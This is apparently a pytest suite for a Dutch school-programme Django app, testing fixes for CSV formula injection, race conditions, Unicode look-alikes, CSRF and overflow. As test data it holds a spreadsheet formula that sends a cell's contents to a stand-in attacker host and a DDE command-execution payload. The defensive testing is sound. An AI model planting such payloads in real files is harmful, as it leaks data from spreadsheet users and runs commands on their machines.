"""Issue 9: the defects found by testing as an attacker and as a busy school (schools side).

Each test failed on the code before the fix: formulas in CSV exports, the register's second
write path (IntegrityError under a race), a 500 when mail is down, look-alike BRINs and
invisible characters, a resume-code link that switched households by GET, ids that overflow,
cacheable teacher pages, names of figures, UTC times and status codes in exports, plan notes
kept forever.
"""

import csv
import datetime
import io
from unittest import mock

import pytest
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from h5p.models import H5PActivity
from home.exports import _stream_safe_csv, csv_writer
from schools import conf, schoolyear, services
from schools.models import Household, ImplementationPlan, LessonDelivery, School

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.fixture(autouse=True)
def clear_rate_limits():
    cache.clear()
    yield
    cache.clear()


def csv_rows(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def _column(rows, heading):
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


# 9.2 Spreadsheet formulas -----------------------------------------------------------------------

def test_every_wagtail_spreadsheet_export_uses_the_safe_writer():
    assert SpreadsheetExportMixin.stream_csv is _stream_safe_csv


@pytest.mark.parametrize("cell", [FORMULA, "+31 6 123", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_csv_writer_neutralises_formula_cells_and_keeps_numbers(cell):
    out = io.StringIO()
    csv_writer(out).writerow([cell, 42, -3, "-3", 2.5, "gewoon"])
    written = next(csv.reader(io.StringIO(out.getvalue())))
    assert written[0] == "'" + cell
    assert written[1:] == ["42", "-3", "-3", "2.5", "gewoon"]


def test_registration_contact_name_with_a_formula_is_inert_in_the_schools_export(client, coordinator):
    client.post(reverse("schools:register"), {
        "name": "De Horizon", "brin": "56GH", "contact_name": FORMULA, "contact_email": "eva@horizon.example", "website": "",
    })
    client.force_login(coordinator)
    rows = csv_rows(client.get(reverse("scholen:index") + "?export=csv"))
    assert _column(rows, "Contactpersoon")[0] == "'" + FORMULA if "Contactpersoon" in rows[0] else any(
        cell == "'" + FORMULA for cell in rows[1])
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_register_and_groepen_exports_neutralise_formulas_and_keep_numbers(client, coordinator, groep_a, tree, teacher):
    services.log_delivery(groep=groep_a, lesson=tree["lessons"][0], teacher=teacher, pupils_present=21, adaptations="=1+1")
    groep_a.name = "@Groep"
    groep_a.save()
    client.force_login(coordinator)
    register = csv_rows(client.get(reverse("gegeven_lessen:index") + "?export=csv"))
    assert "'=1+1" in register[1] and "21" in register[1] and "'@Groep" in register[1]
    groepen = csv_rows(client.get(reverse("groepen:index") + "?export=csv"))
    assert "'@Groep" in groepen[1] and "25" in groepen[1]


def test_h5p_report_export_neutralises_a_formula_title(client, coordinator):
    H5PActivity.objects.create(title="-1+cmd|' /C calc'!A0", slug="formule")
    client.force_login(coordinator)
    rows = csv_rows(client.get(reverse("h5p_report") + "?export=csv"))
    titles = [row[0] for row in rows[1:]]
    assert titles == ["'-1+cmd\\|' /C calc'!A0"]


# 9.4 One write path for the register ----------------------------------------------------------------

def test_full_form_race_gives_the_dutch_already_logged_message_not_a_500(client, teacher, groep_a, tree):
    """The duplicate check passes in both requests; the database's unique rule then refuses
    the second insert. Simulated by letting the check see nothing."""
    client.force_login(teacher)
    lesson = tree["lessons"][0]
    services.log_delivery(groep=groep_a, lesson=lesson, teacher=teacher)
    data = {"lesson": lesson.pk, "date": timezone.localdate().isoformat(), "pupils_present": 20, "minutes": 45, "adaptations": ""}
    with mock.patch("schools.models.LessonDelivery.clean", lambda self: None), \
            mock.patch("schools.models.LessonDelivery.validate_constraints", lambda self, exclude=None: None):
        response = client.post(reverse("schools:log_delivery", args=[groep_a.pk]), data)
    assert response.status_code == 200
    assert "Deze les is voor deze groep op deze dag al geregistreerd." in response.content.decode()
    assert LessonDelivery.objects.count() == 1


def test_edit_form_writes_through_the_service(client, teacher, groep_a, tree):
    client.force_login(teacher)
    first = services.log_delivery(groep=groep_a, lesson=tree["lessons"][0], teacher=teacher)
    with mock.patch("schools.services.update_delivery", wraps=services.update_delivery) as update:
        response = client.post(reverse("schools:edit_delivery", args=[first.pk]), {
            "lesson": first.lesson_id, "date": first.date.isoformat(), "pupils_present": 19, "minutes": 50, "adaptations": "Korter",
        })
    assert response.status_code == 302 and update.call_count == 1
    first.refresh_from_db()
    assert (first.pupils_present, first.minutes, first.adaptations) == (19, 50, "Korter")


def test_edit_race_into_an_existing_day_is_the_dutch_message(groep_a, tree, teacher):
    today = timezone.localdate()
    services.log_delivery(groep=groep_a, lesson=tree["lessons"][0], teacher=teacher, date=today)
    other = services.log_delivery(groep=groep_a, lesson=tree["lessons"][1], teacher=teacher, date=today)
    with mock.patch("schools.models.LessonDelivery.clean", lambda self: None), pytest.raises(ValidationError) as error:  # noqa: PT012
        services.update_delivery(other, lesson=tree["lessons"][0])
    assert error.value.message_dict == {"lesson": ["Deze les is voor deze groep op deze dag al geregistreerd."]}


def test_logging_a_lesson_again_on_another_day_warns_with_the_earlier_date(client, teacher, groep_a, tree):
    client.force_login(teacher)
    lesson = tree["lessons"][4]
    earlier = timezone.localdate() - datetime.timedelta(days=3)
    given = services.log_delivery(groep=groep_a, lesson=lesson, teacher=teacher)
    LessonDelivery.objects.filter(pk=given.pk).update(date=earlier)  # given before (even if last school year)
    response = client.post(reverse("schools:log_delivery", args=[groep_a.pk]), {"quick": "1", "lesson": lesson.pk}, follow=True)
    from django.utils.formats import date_format

    assert f"Les 5 is al gegeven op {date_format(earlier, 'j F')}." in response.content.decode()
    assert LessonDelivery.objects.filter(lesson=lesson).count() == 2


def test_the_edit_window_message_comes_from_the_service(client, teacher, groep_a, tree):
    client.force_login(teacher)
    delivery = services.log_delivery(groep=groep_a, lesson=tree["lessons"][0], teacher=teacher)
    LessonDelivery.objects.filter(pk=delivery.pk).update(created_at=timezone.now() - datetime.timedelta(days=conf.EDIT_DAYS + 1))
    response = client.post(reverse("schools:delete_delivery", args=[delivery.pk]), follow=True)
    assert "Een registratie kan tot 14 dagen na het invoeren worden verwijderd." in response.content.decode()
    assert LessonDelivery.objects.filter(pk=delivery.pk).exists()


def test_the_caller_less_update_has_callers():
    import inspect

    from schools import admin_views, views

    assert "services.update_delivery" in inspect.getsource(views) and "services.update_delivery" in inspect.getsource(admin_views)


# 9.5 Registration when e-mail is down ---------------------------------------------------------------

def test_registration_shows_thanks_and_keeps_the_school_when_mail_fails(client, coordinator, django_capture_on_commit_callbacks, caplog):
    with mock.patch("schools.services.send_mail", side_effect=ConnectionRefusedError("smtp down")):
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(reverse("schools:register"), {
                "name": "De Horizon", "brin": "56GH", "contact_name": "Eva", "contact_email": "eva@horizon.example", "website": "",
            })
    assert response.status_code == 302 and response["Location"] == reverse("schools:register_done")
    assert School.objects.filter(brin="56GH").exists()
    assert "could not be sent" in caplog.text


# 9.7 Teacher pages are private ------------------------------------------------------------------------

def test_teacher_pages_are_never_stored_by_a_cache(client, teacher, groep_a):
    client.force_login(teacher)
    for url in (reverse("schools:my_groepen"), reverse("schools:groep_detail", args=[groep_a.pk]),
                reverse("schools:carer_letter", args=[groep_a.pk])):
        cache_control = client.get(url)["Cache-Control"]
        assert "private" in cache_control and "no-store" in cache_control, url


# 9.8 Look-alike identifiers and names -----------------------------------------------------------------

@pytest.mark.parametrize("brin", ["١٢AB", "１２AB", "12ＡＢ", "12AB٠٠", "12ÅB"])
def test_brin_accepts_ascii_digits_and_letters_only(client, brin):
    response = client.post(reverse("schools:register"), {
        "name": "De Horizon", "brin": brin, "contact_name": "Eva", "contact_email": "eva@horizon.example", "website": "",
    })
    assert response.status_code == 200 and "Een BRIN-code bestaat uit twee cijfers" in response.content.decode()
    assert not School.objects.exists()


def test_brin_in_the_model_refuses_arabic_indic_digits(school_a):
    school_a.brin = "١٢AB"
    with pytest.raises(ValidationError) as error:
        school_a.full_clean()
    assert "brin" in error.value.message_dict


@pytest.mark.parametrize("name", ["De Regen\u200bboog", "De \u202eGOOBNEGER\u202c", "\ufeffDe Regenboog", "De Regenboog\u2066"])
def test_invisible_and_bidi_characters_are_refused_in_names(client, name):
    response = client.post(reverse("schools:register"), {
        "name": name, "brin": "56GH", "contact_name": "Eva", "contact_email": "eva@horizon.example", "website": "",
    })
    assert response.status_code == 200 and "onzichtbare tekens" in response.content.decode()
    assert not School.objects.exists()


def test_groep_names_refuse_invisible_characters(groep_a):
    groep_a.name = "Groep\u200d 7A"
    with pytest.raises(ValidationError) as error:
        groep_a.full_clean()
    assert "name" in error.value.message_dict


def test_a_code_with_invisible_characters_is_refused_and_not_counted(client, groep_a):
    response = client.post(reverse("schools:carer_entry"), {"code": groep_a.carer_code[:4] + "\u200b" + groep_a.carer_code[4:]})
    assert response.status_code == 200 and "onzichtbare tekens" in response.content.decode()
    assert not Household.objects.exists()


# 9.9 A resume-code link asks before switching households ------------------------------------------------

def test_a_resume_code_link_asks_before_switching_households(client, groep_a, groep_b):
    other = services.create_household(groep_b)
    client.post(reverse("schools:carer_entry"), {"code": groep_a.carer_code})
    mine = Household.objects.get(groep=groep_a)
    link = reverse("schools:carer_code_link", args=[other.resume_code])

    response = client.get(link)
    html = response.content.decode()
    assert response.status_code == 200 and "Groep 8" in html and "Het Kompas" in html and 'method="post"' in html
    assert client.get(reverse("schools:carer_home")).context["household"] == mine  # not switched by the GET

    assert client.post(link).status_code == 302
    assert client.get(reverse("schools:carer_home")).context["household"] == other


def test_the_confirmation_needs_a_csrf_token(groep_b):
    other = services.create_household(groep_b)
    strict = Client(enforce_csrf_checks=True)
    assert strict.post(reverse("schools:carer_code_link", args=[other.resume_code])).status_code == 403


# 9.10 Numbers that overflow ------------------------------------------------------------------------------

HUGE = "99999999999999999999999"


@pytest.mark.parametrize("value", [HUGE, "9223372036854775808", "²", "١٢", "-1", "1e3"])
def test_lesson_ids_are_bounded_integers_everywhere(client, teacher, groep_a, value):
    client.force_login(teacher)
    quick = client.post(reverse("schools:log_delivery", args=[groep_a.pk]), {"quick": "1", "lesson": value}, follow=True)
    assert quick.status_code == 200 and "Deze les hoort niet bij het programma van de groep." in quick.content.decode()
    assert client.get(reverse("schools:log_delivery", args=[groep_a.pk]) + f"?les={value}").status_code == 200
    full = client.post(reverse("schools:log_delivery", args=[groep_a.pk]), {
        "lesson": value, "date": timezone.localdate().isoformat(), "pupils_present": 20, "minutes": 45,
    })
    assert full.status_code == 200 and "Deze les hoort niet bij het programma van de groep." in full.content.decode()
    assert not LessonDelivery.objects.exists()


def test_huge_ids_in_urls_are_not_found(client, teacher):
    client.force_login(teacher)
    assert client.get(f"/mijn-groepen/{HUGE}/").status_code == 404
    assert client.get(f"/ouders/module/{HUGE}/").status_code == 404


# 9.12 Names, times and labels -------------------------------------------------------------------------------

def test_households_started_counts_households_that_started_a_module_everywhere(client, coordinator, teacher, groep_a, tree):
    services.create_household(groep_a)  # entered the code only: not counted
    started = services.create_household(groep_a)
    services.start_module(started, tree["modules"][0])
    client.force_login(coordinator)
    index = client.get(reverse("groepen:index")).content.decode()
    assert "Huishoudens begonnen" in index
    rows = csv_rows(client.get(reverse("groepen:index") + "?export=csv"))
    assert _column(rows, "Huishoudens begonnen") == ["1"]
    client.force_login(teacher)
    assert "1 huishouden is met een thuismodule begonnen." in client.get(reverse("schools:groep_detail", args=[groep_a.pk])).content.decode()


def test_exports_write_times_in_amsterdam_and_the_status_label(client, coordinator, school_a):
    School.objects.filter(pk=school_a.pk).update(created_at=datetime.datetime(2026, 7, 1, 22, 30, tzinfo=datetime.UTC))
    client.force_login(coordinator)
    rows = csv_rows(client.get(reverse("scholen:index") + "?export=csv"))
    assert _column(rows, "Status") == ["Actief"]
    assert "2026-07-02 00:30" in rows[1]  # CEST, not 22:30 UTC


def test_status_history_is_shown_in_amsterdam_time(school_a):
    change = services.set_status(school_a, "afgerond") and school_a.status_changes.first()
    type(change).objects.filter(pk=change.pk).update(changed_at=datetime.datetime(2026, 1, 5, 23, 15, tzinfo=datetime.UTC))
    assert "06-01-2026 00:15" in school_a.status_history()


def test_invitation_mail_names_school_and_groep_and_links_to_the_site(groep_a, coordinator, mailoutbox, settings,
                                                                      django_capture_on_commit_callbacks):
    settings.WAGTAILADMIN_BASE_URL = "https://bounce.gemeente.example"
    with django_capture_on_commit_callbacks(execute=True):
        services.invite_teacher_for_groep(groep_a, email="nieuw@regenboog.example", first_name="Nina", last_name="Bos", invited_by=coordinator)
    body = mailoutbox[0].body
    assert "Groep 7A van De Regenboog" in body
    assert "https://bounce.gemeente.example/account/uitnodiging/" in body and "127.0.0.1" not in body


# 9.13 Retention covers implementation-plan notes ----------------------------------------------------------

def test_purge_blanks_notes_of_plans_whose_school_year_ended(school_a):
    current = schoolyear.current_school_year()
    old = ImplementationPlan.objects.create(school=school_a, school_year=current - 2, groepen="7A", notes="Juf Anna is ziek.")
    recent = ImplementationPlan.objects.create(school=school_a, school_year=current, groepen="7A", notes="Start in oktober.")
    from schools import retention

    counts = retention.purge(timezone.now() - datetime.timedelta(days=365))
    old.refresh_from_db()
    recent.refresh_from_db()
    assert counts["notities in implementatieplannen"] == 1
    assert (old.notes, recent.notes) == ("", "Start in oktober.")
